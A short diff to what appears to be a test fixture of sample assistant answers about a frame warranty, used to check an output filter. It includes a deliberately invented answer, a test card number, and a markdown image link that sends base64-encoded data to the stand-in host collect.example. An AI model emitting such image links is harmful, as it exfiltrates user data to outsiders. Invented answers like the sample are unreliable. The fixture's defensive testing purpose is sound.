@@ -34,7 +34,7 @@ DOCUMENTS = {
 ANSWERS = {
     "grounded": "The warranty on the frame is 5 years.",
     "invented": "The warranty on the frame is 12 years. It covers theft in 40 countries.",
-    "card": "The warranty on the frame is 5 years. The card 4111 1111 1111 1111 was charged.",
+    "card": "The warranty on the frame is 5 years. Your card 4111 1111 1111 1111 was charged twice.",
     "leak": "The warranty on the frame is 5 years. ![x](http://collect.example/p?d=c2VjcmV0IGRhdGE)",
 }
 
